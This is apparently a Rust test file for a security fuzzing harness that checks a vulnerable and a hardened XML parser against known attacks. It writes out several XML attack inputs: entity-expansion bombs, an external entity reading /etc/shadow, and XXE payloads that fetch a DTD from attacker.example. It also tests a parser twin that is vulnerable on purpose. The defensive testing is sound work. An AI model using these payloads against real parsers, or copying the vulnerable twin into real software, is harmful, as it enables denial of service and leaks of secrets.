//! The xml twins and targets against the shared table in `testdata/xml/`,
//! the hardened twin's limits, and the oracles' verdicts on known attacks,
//! in metered costs.

mod support;

use gauntlet_harnesses::manifest::Expect;
use gauntlet_harnesses::xml::{
    attacks, bound, items, parse_hardened, parse_vulnerable, reference, Exception, Reference,
    DIFFERENTIAL, FAMILY, HARDENED, VULNERABLE,
};
use gauntlet_harnesses::{Kind, Target, Variant, Verdict};
use gauntlet_targets::meter::{Fuse, Meter};
use gauntlet_targets::xml::{
    hardened, vulnerable, Document, Error, ErrorKind, Event, VirtualFs, CANARY,
};
use serde::Deserialize;
use support::{run_table, Case, Failures};

/// The xml family's own fields of `testdata/xml/wellformedness.toml`.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Fields {
    output: Option<String>,
    error: Option<String>,
    offset: Option<usize>,
    entity: Option<String>,
    twins: Option<String>,
}

impl Fields {
    /// Whether `output` and `error` speak for this twin.
    fn covers(&self, twin: &str) -> bool {
        self.twins.as_deref().is_none_or(|t| t == twin)
    }
}

/// The events in a compact form: `<a x="v">`, `</a>`, text, `<!--c-->`,
/// `<?t d?>`.
fn render(doc: &Document) -> String {
    let mut out = String::new();
    for e in doc.events() {
        match e {
            Event::Start { name, attributes } => {
                out.push('<');
                out.push_str(name);
                for a in attributes {
                    out.push_str(&format!(" {}=\"{}\"", a.name, a.value));
                }
                out.push('>');
            }
            Event::End { name } => out.push_str(&format!("</{name}>")),
            Event::Text(t) => out.push_str(t),
            Event::Comment(c) => out.push_str(&format!("<!--{c}-->")),
            Event::Pi { target, data: "" } => out.push_str(&format!("<?{target}?>")),
            Event::Pi { target, data } => out.push_str(&format!("<?{target} {data}?>")),
        }
    }
    out
}

/// The name the table uses for an error kind.
fn code(e: &Error) -> &'static str {
    match &e.kind {
        ErrorKind::Syntax(s) => s.name(),
        other => other.name(),
    }
}

type Twin = fn(&[u8]) -> (Result<Document, Error>, Meter, VirtualFs);

/// The verdict of a target the case does not name: clean for an `output`,
/// rejected for an `error`, where the case covers the target's twin.
fn derive(case: &Case<Fields>, target: &Target) -> Option<Expect> {
    let twin = if target.variant == Variant::Vulnerable { "vulnerable" } else { "hardened" };
    if !case.fields.covers(twin) {
        return None;
    }
    match (&case.fields.output, &case.fields.error) {
        (Some(_), None) => Some(Expect::Clean),
        (None, Some(_)) => Some(Expect::Rejected(None)),
        _ => None,
    }
}

/// The xml family's own checks of one case: each twin it covers gives its
/// `output`, or its `error` at its `offset` (and `entity`), and stays
/// under the fuse.
fn twins(case: &Case<Fields>, input: &[u8], fail: &mut Failures) {
    let twins: [(&str, Twin); 2] = [("vulnerable", parse_vulnerable), ("hardened", parse_hardened)];
    let fields = &case.fields;
    for (twin, parse) in twins {
        if !fields.covers(twin) {
            continue;
        }
        let (result, meter, _) = parse(input);
        let mut fail = |what: String| fail.push(&case.name, format!("{twin}: {what}"));
        match (&fields.output, &fields.error, result) {
            (Some(want), None, Ok(doc)) => {
                if &render(&doc) != want {
                    fail(format!("{:?}, the table says {want:?}", render(&doc)));
                }
            }
            (None, Some(want), Err(e)) => {
                if (code(&e), Some(e.offset), &e.entity) != (want, fields.offset, &fields.entity) {
                    fail(format!(
                        "{e} ({}), the table says {want} at {:?}",
                        code(&e),
                        fields.offset
                    ));
                }
                // Display: lowercase message and position.
                if !e.to_string().contains(&format!("at byte {}", e.offset)) {
                    fail(format!("{e}: no position"));
                }
            }
            (_, _, got) => fail(format!("got {got:?}")),
        }
        if meter.tripped().is_some() {
            fail("fuse tripped".into());
        }
    }
}

#[test]
fn both_twins_and_every_target_agree_with_the_wellformedness_table() {
    let cases = support::load::<Fields>(&FAMILY, "wellformedness");
    assert!(cases.len() > 60, "the table lost cases");
    run_table(&FAMILY, &cases, |case| case.input.clone(), derive, twins);
}

#[test]
fn the_hardened_twin_refuses_billion_laughs_after_a_few_kilobytes() {
    let input = attacks::billion_laughs(9);
    let mut meter = Meter::new(Fuse::unlimited());
    let e = hardened::parse(&input, &mut VirtualFs::new(), &mut meter).unwrap_err();
    let ErrorKind::Amplification { expanded, direct, limit } = e.kind else {
        panic!("{e}");
    };
    assert_eq!(limit, 100);
    assert!(direct < input.len() as u64 && expanded > 100 * direct, "{e}");
    // Under 10 KB of output and fewer than 10,000 steps: libexpat's 8 MiB
    // activation threshold would let it expand 8 MiB first.
    let cost = meter.cost();
    assert!(cost.bytes_out < 10_000, "{cost}");
    assert!(cost.steps < 10_000, "{cost}");
    assert_eq!(cost.depth, 11, "the root and ten entities deep");
}

#[test]
fn vulnerable_output_grows_tenfold_per_level_and_hardened_stays_bounded() {
    let mut previous = 0;
    for levels in 1..=5 {
        let input = attacks::billion_laughs(levels);
        let mut meter = Meter::new(Fuse::unlimited());
        let doc = vulnerable::parse(&input, &mut VirtualFs::new(), &mut meter).unwrap();
        let text = doc.text().len() as u64;
        assert_eq!(text, 3 * 10u64.pow(levels as u32));
        // Everything produced beyond the expanded text came from the input.
        let bytes = meter.cost().bytes_out;
        assert!(bytes >= text && bytes - text <= input.len() as u64, "{bytes} for {text}");
        if previous > 0 {
            assert_eq!(text, 10 * previous);
        }
        previous = text;

        let mut meter = Meter::new(Fuse::unlimited());
        let _ = hardened::parse(&input, &mut VirtualFs::new(), &mut meter);
        let cost = meter.cost();
        assert!(cost.bytes_out <= bound(input.len()) && cost.steps <= bound(input.len()));
    }
}

#[test]
fn quadratic_blowup_is_refused_by_budget_not_depth() {
    let input = attacks::quadratic_blowup(1_000, 5_000);
    let mut meter = Meter::new(Fuse::unlimited());
    let doc = vulnerable::parse(&input, &mut VirtualFs::new(), &mut meter).unwrap();
    assert_eq!(doc.text().len(), 5_000_000);
    assert_eq!(meter.cost().depth, 2, "one element, one entity: nothing deep about it");

    let mut meter = Meter::new(Fuse::unlimited());
    let e = hardened::parse(&input, &mut VirtualFs::new(), &mut meter).unwrap_err();
    assert!(matches!(e.kind, ErrorKind::Amplification { .. }), "{e}");
    assert!(meter.cost().bytes_out <= bound(input.len()));
}

#[test]
fn benign_entity_use_passes_the_hardened_twin() {
    // A 200-byte boilerplate entity used 200 times in a 2 KB document: 40 KB
    // of output, 20 times the input.
    let mut s =
        format!("<!DOCTYPE d [<!ENTITY legal \"{}\">]><d>", "All rights reserved. ".repeat(10));
    for i in 0..200 {
        s.push_str(&format!("<p n='{i}'>&legal;</p>"));
    }
    s.push_str("</d>");
    let (result, meter, _) = parse_hardened(s.as_bytes());
    let doc = result.unwrap();
    assert_eq!(doc.text().len(), 200 * 210);
    assert_eq!(HARDENED.check(s.as_bytes()).status(), "clean");
    assert_eq!(VULNERABLE.check(s.as_bytes()).status(), "clean");
    assert!(meter.cost().bytes_out < bound(s.len()));
}

#[test]
fn hardened_limits_are_settings_with_their_own_errors() {
    fn parse(config: hardened::Config, input: &[u8]) -> Result<Document<'_>, Error> {
        hardened::parse_with(config, input, &mut VirtualFs::new(), &mut Meter::default())
    }
    let defaults = hardened::Config::default();

    let deep = attacks::nested_elements(257);
    let e = parse(defaults, &deep).unwrap_err();
    assert_eq!(e.kind, ErrorKind::ElementDepth { depth: 257, limit: 256 });
    assert_eq!(e.offset, 256 * 3);
    assert!(parse(defaults, &attacks::nested_elements(256)).is_ok());
    let shallow = hardened::Config { element_depth_limit: 3, ..defaults };
    let e = parse(shallow, &attacks::nested_elements(4)).unwrap_err();
    assert_eq!(e.kind, ErrorKind::ElementDepth { depth: 4, limit: 3 });

    let attrs: String = (0..257).map(|i| format!(" a{i}=''")).collect();
    let input = format!("<e{attrs}/>");
    let e = parse(defaults, input.as_bytes()).unwrap_err();
    assert_eq!(e.kind, ErrorKind::TooManyAttributes { count: 257, limit: 256 });
    let few = hardened::Config { attribute_limit: 2, ..defaults };
    let e = parse(few, b"<e a='' b='' c=''/>").unwrap_err();
    assert_eq!((e.kind, e.offset), (ErrorKind::TooManyAttributes { count: 3, limit: 2 }, 13));

    // A chain of 22 entities, each referring to the one before: depth 22.
    let mut s = String::from("<!DOCTYPE a [<!ENTITY e0 'x'>");
    for i in 1..22 {
        s.push_str(&format!("<!ENTITY e{i} '&e{};'>", i - 1));
    }
    s.push_str("]><a>&e21;</a>");
    let e = parse(defaults, s.as_bytes()).unwrap_err();
    assert_eq!(e.kind, ErrorKind::EntityDepth { depth: 21, limit: 20 });
    assert_eq!(e.entity.as_deref(), Some("e2"));
    let deeper = hardened::Config { entity_depth_limit: 22, ..defaults };
    assert_eq!(parse(deeper, s.as_bytes()).unwrap().text(), "x");

    // The threshold and the factor: 3 levels of 10 is 1,110 references.
    let bomb = attacks::billion_laughs(3);
    assert!(parse(defaults, &bomb).is_ok());
    let low = hardened::Config { activation_threshold: 1_000, ..defaults };
    let e = parse(low, &bomb).unwrap_err();
    assert!(matches!(e.kind, ErrorKind::Amplification { limit: 100, .. }), "{e}");
    let lenient = hardened::Config { amplification_limit: 1_000, ..low };
    assert!(parse(lenient, &bomb).is_ok());

    // The reference cost makes empty entities count.
    let empty = b"<!DOCTYPE a [<!ENTITY e ''><!ENTITY f '&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;'>\
<!ENTITY g '&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;'><!ENTITY h '&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;'>]>\
<a>&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;</a>";
    let e = parse(defaults, empty).unwrap_err();
    assert!(matches!(e.kind, ErrorKind::Amplification { .. }), "{e}");
    let free = hardened::Config { reference_cost: 0, ..defaults };
    assert_eq!(parse(free, empty).unwrap().text(), "");
}

#[test]
fn the_oracles_report_each_attack_with_its_cwe() {
    let cases: [(Vec<u8>, Kind, u32, &str); 5] = [
        (attacks::billion_laughs(9), Kind::Amplification, 776, "entity-expansion"),
        (attacks::quadratic_blowup(2_000, 2_000), Kind::Amplification, 776, "entity-expansion"),
        (attacks::external_entity("file:///etc/shadow"), Kind::SecretLeak, 611, "xxe-in-band"),
        (attacks::nested_elements(2_500), Kind::UnboundedRecursion, 674, "element-nesting"),
        (
            b"<!DOCTYPE a [<!ENTITY e '&e;'>]><a>&e;</a>".to_vec(),
            Kind::UnboundedRecursion,
            674,
            "entity-recursion",
        ),
    ];
    for (input, kind, cwe, location) in cases {
        let v = VULNERABLE.check(&input);
        let f = v.finding().unwrap_or_else(|| panic!("{location}: {v:?}"));
        assert_eq!((f.kind, f.cwe, f.location.as_str()), (kind, cwe, location), "{}", f.summary);
        for t in [&HARDENED, &DIFFERENTIAL] {
            let v = t.check(&input);
            assert_eq!(v.status(), "rejected", "{} {location}: {v:?}", t.name);
        }
    }
    // Findings of one bug share a signature across inputs.
    let a = VULNERABLE.check(&attacks::billion_laughs(7));
    let b = VULNERABLE.check(&attacks::quadratic_blowup(3_000, 3_000));
    assert_eq!(a.finding().unwrap().signature, b.finding().unwrap().signature);
}

#[test]
fn an_amplification_finding_is_decided_at_the_fuse() {
    let input = attacks::billion_laughs(9);
    let f = VULNERABLE.check(&input);
    let f = f.finding().unwrap();
    // Stopped by the output fuse, within one produce (a few bytes) of it.
    let fuse = 2 * bound(input.len());
    assert!(f.cost.bytes_out > fuse && f.cost.bytes_out < fuse + 16, "{}", f.summary);
}

#[test]
fn out_of_band_and_error_based_leaks_are_found() {
    let oob = b"<!DOCTYPE a [<!ENTITY % r SYSTEM 'http://attacker.example/evil.dtd'> %r;]><a/>";
    let (result, _, fs) = parse_vulnerable(oob);
    assert!(!result.unwrap().contains(CANARY), "nothing in the output");
    assert!(fs.requests().iter().any(|r| r.contains(CANARY)));
    let f = VULNERABLE.check(oob);
    assert_eq!(f.finding().map(|f| f.location.as_str()), Some("xxe-out-of-band"));

    // The attacker's DTD puts the file's text into a file name that does not
    // exist: the secret comes back in the error message.
    let error_based = b"<!DOCTYPE a SYSTEM 'http://attacker.example/error.dtd'><a/>";
    let (result, _, _) = parse_vulnerable(error_based);
    let e = result.unwrap_err();
    assert_eq!(e.kind.name(), "resolve-failed");
    assert_eq!(e.entity.as_deref(), Some("[dtd]"), "the fetch fails at `%fail;` in the dtd");
    let f = VULNERABLE.check(error_based);
    assert_eq!(f.finding().map(|f| f.location.as_str()), Some("xxe-error-message"));
    let v = HARDENED.check(error_based);
    assert!(
        matches!(&v, Verdict::Rejected { reason, .. } if reason.starts_with("external dtd forbidden"))
    );
}

#[test]
fn spelling_the_canary_out_is_not_a_leak() {
    let input = format!("<a x='{CANARY}'>{CANARY}</a>");
    for t in [&VULNERABLE, &HARDENED, &DIFFERENTIAL] {
        assert_eq!(t.check(input.as_bytes()).status(), "clean", "{}", t.name);
    }
    // Nor is reading a file that holds no secret.
    let input = attacks::external_entity("file:///etc/hostname");
    assert_eq!(VULNERABLE.check(&input).status(), "clean");
}

#[test]
fn each_documented_exception_is_real() {
    let examples: [(&str, Exception); 13] = [
        ("<a><b></b>", Exception::UnclosedAtEof),
        ("<!-- nothing -->", Exception::NoRoot),
        ("text<a/>", Exception::TextOutsideRoot),
        ("<a/><b/>", Exception::MultipleRoots),
        ("<1a></1a>", Exception::InvalidName),
        ("<a>\u{1}</a>", Exception::ForbiddenChar),
        ("<a>&#1;</a>", Exception::ForbiddenChar),
        ("<a>]]></a>", Exception::CdataEndInText),
        ("<a x='<'/>", Exception::LtInAttributeValue),
        ("<a x='1'y='2'/>", Exception::MissingWhitespace),
        ("<?xml version='1.0' encoding='latin1'?><a/>", Exception::XmlDeclaration),
        ("<a><?xml version='1.0'?></a>", Exception::XmlDeclaration),
        ("<e a='' b='' c=''/>", Exception::HardeningLimit),
    ];
    for (input, exception) in examples {
        let refs = reference(input.as_bytes());
        assert!(matches!(refs, Reference::Items(_)), "{input:?}: quick-xml {refs:?}");
        if exception == Exception::HardeningLimit {
            let few = hardened::Config { attribute_limit: 2, ..Default::default() };
            let e = hardened::parse_with(
                few,
                input.as_bytes(),
                &mut VirtualFs::new(),
                &mut Meter::default(),
            )
            .unwrap_err();
            assert_eq!(Exception::of(&e.kind), Some(exception));
            continue;
        }
        let v = DIFFERENTIAL.check(input.as_bytes());
        let Verdict::Rejected { reason, .. } = &v else { panic!("{input:?}: {v:?}") };
        assert!(
            reason.ends_with(&format!("(documented difference from quick-xml: {exception})")),
            "{reason}"
        );
    }
}

#[test]
fn a_refusal_outside_the_exceptions_is_a_mismatch() {
    // quick-xml resolves this attribute value; hardened refuses the
    // duplicate — a mismatch if quick-xml ever reads it to the end.
    let input = b"<a x='1' x='2'/>";
    assert!(matches!(reference(input), Reference::Error(_)), "quick-xml checks duplicates");
    assert_eq!(DIFFERENTIAL.check(input).status(), "rejected");
}

#[test]
fn the_benign_megabyte_is_clean_everywhere_and_identical_in_both_twins() {
    let input = attacks::benign_document(200_000);
    let (h, hm, _) = parse_hardened(&input);
    let (v, _, _) = parse_vulnerable(&input);
    let h = h.unwrap();
    assert_eq!(Ok(&h), v.as_ref());
    assert_eq!(reference(&input), Reference::Items(items(&h)));
    assert!(hm.cost().bytes_out <= input.len() as u64 && hm.cost().steps <= input.len() as u64);
    for t in [&VULNERABLE, &HARDENED, &DIFFERENTIAL] {
        assert_eq!(t.check(&input).status(), "clean", "{}", t.name);
    }
}

#[test]
fn the_structural_mutator_reaches_every_declared_kind() {
    // A greedy stand-in for libFuzzer: keep a mutant when it expands at
    // least as much as its parent. From nothing, an entity ladder
    // grows until the amplification oracle fires; on the way the mutator
    // declares external entities from the dictionary's URIs (one of which
    // is the canary's), refers to entities from other entities' values (a
    // cycle, sometimes) and nests elements.
    let mut input = Vec::new();
    let mut best = 0;
    let mut kinds = std::collections::BTreeMap::new();
    for seed in 0..20_000u32 {
        let Some(next) = gauntlet_harnesses::xml::mutate(&input, 4096, seed) else { continue };
        assert!(next.len() <= 4096);
        if let Verdict::Finding(f) = VULNERABLE.check(&next) {
            kinds.entry(f.kind).or_insert(seed);
            if kinds.len() == VULNERABLE.expected.len() {
                break;
            }
            continue;
        }
        // A cyclic document is a dead end for amplification.
        if let (Err(e), _, _) = parse_hardened(&next) {
            if matches!(e.kind, ErrorKind::EntityCycle { .. }) {
                continue;
            }
        }
        let (_, meter, _) = parse_vulnerable(&next);
        let work = meter.cost().bytes_out;
        // Ties go to the shorter document, as libFuzzer's corpus prefers.
        if work > best || (work == best && next.len() <= input.len()) {
            best = work;
            input = next;
        }
    }
    for kind in VULNERABLE.expected {
        assert!(kinds.contains_key(kind), "{kind} within 20,000 mutations: {kinds:?}");
    }
    let small = (0..100).filter_map(|seed| gauntlet_harnesses::xml::mutate(b"", 10, seed)).count();
    assert_eq!(small, 0, "no mutant is longer than max_size");
}
